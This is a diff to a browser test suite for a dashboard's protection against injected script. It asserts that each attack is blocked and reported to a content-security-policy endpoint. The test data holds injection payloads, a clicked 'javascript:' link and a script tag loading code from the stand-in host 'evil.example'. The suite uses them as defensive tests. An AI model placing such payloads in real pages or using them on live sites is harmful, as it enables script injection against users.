@@ -42,15 +42,17 @@ describe('script that is put into the dashboard', () => {
       "Object.assign(document.body.appendChild(document.createElement('a')), { href: 'javascript:globalThis.broken=true' }).click()",
     ],
     ['from another host', "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }))"],
-  ] as const)('%s does not run (S4.4)', async (_how, attack) => {
+  ] as const)('%s does not run, and is reported (S4.4)', async (_how, attack) => {
     const reader = await newReader(browser, { language: 'en' });
     const page = await reader.newPage();
     await visit(page, '/login');
+    const reported = page.waitForResponse(`${cloud().app}/v1/reports/csp`);
     await page.evaluate(attack).catch(() => undefined);
     // The address of a link is followed in a task of its own, and a file of another host is fetched before it could run.
     await page.waitForLoadState('networkidle');
 
     expect(await page.evaluate(() => 'broken' in globalThis)).toBe(false);
+    expect((await reported).status()).toBe(204);
     await reader.close();
   });
 });
